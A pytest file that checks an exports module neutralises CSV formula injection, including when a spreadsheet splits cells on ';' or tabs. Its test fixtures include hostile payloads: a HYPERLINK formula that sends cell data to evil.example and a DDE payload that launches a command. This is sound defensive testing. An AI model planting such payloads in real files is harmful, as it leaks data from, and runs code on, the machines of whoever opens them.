"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection)."""

import csv
import io

import pytest

from assistant.storage.exports import TRIGGERS, csv_safe, frame_to_csv, to_csv

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_triggers_are_neutralised(value):
    safe = csv_safe(value)  # "\t=1+1" gets a second apostrophe after its tab: see the splitting test below
    assert safe.startswith("'") and safe.replace("'", "") == value.replace("'", "")
    assert safe == "'" + value or value[0] in "\t\r"


def test_ordinary_values_are_unchanged():
    assert [csv_safe(v) for v in ("Camille Durand", "a=b", "", 3, -3, 2.5, True)] == \
           ["Camille Durand", "a=b", "", 3, -3, 2.5, True]
    assert csv_safe(None) == "" and csv_safe(float("nan")) == ""
    assert csv_safe(["=x", "y"]) == '["=x", "y"]'


def test_to_csv_round_trips_through_a_csv_reader_with_no_cell_starting_with_a_trigger():
    rows = [{"name": value, "score": n, "team": None} for n, value in enumerate(HOSTILE)] + [{"name": "Ana", "score": -1}]
    text = to_csv(rows, ["name", "score", "team"], headers=["Name", "=Score", "Team"])
    cells = list(csv.reader(io.StringIO(text, newline="")))
    assert cells[0] == ["Name", "'=Score", "Team"] and len(cells) == len(rows) + 1
    assert not any(cell.startswith(TRIGGERS) for row in cells for cell in row if not cell.lstrip("-").isdigit())
    assert cells[1][0] == "'" + HOSTILE[0] and cells[-1] == ["Ana", "-1", ""]


def test_dataframes_too():
    pd = pytest.importorskip("pandas")
    text = frame_to_csv(pd.DataFrame([{"title": "=EVIL()", "shares": 3, "score": float("nan")}]))
    assert text.splitlines() == ["title,shares,score", "'=EVIL(),3,"]


SPLIT = ["Ana;=HYPERLINK(\"https://evil.example/?\"&A1)", "x,=1+1", "ok; -2+3", "a;\t=1+1", "line\n=1+1",
         "tab\t@SUM(A1)", "x;;  +cmd|' /C calc'!A0", "crlf\r\n-1+1"]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_piece_of_a_cell_starts_a_formula_whatever_the_spreadsheet_splits_on(delimiter):
    """French spreadsheets split a CSV on ';': 'Ana;=HYPERLINK(…)' was a second cell starting with '='."""
    text = to_csv([{"name": value} for value in SPLIT], ["name"])
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):  # QUOTE_NONE: a reader that ignores quotes
        reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting, escapechar="\\")
        pieces = [piece for row in reader for cell in row for piece in cell.splitlines()]
        assert not [p for p in pieces if p.lstrip(" \t\"").startswith(("=", "+", "-", "@"))], (delimiter, quoting)


def test_separators_without_a_trigger_are_left_alone():
    assert csv_safe("Lyon, Paris; Nantes") == "Lyon, Paris; Nantes" and csv_safe("a - b") == "a - b"
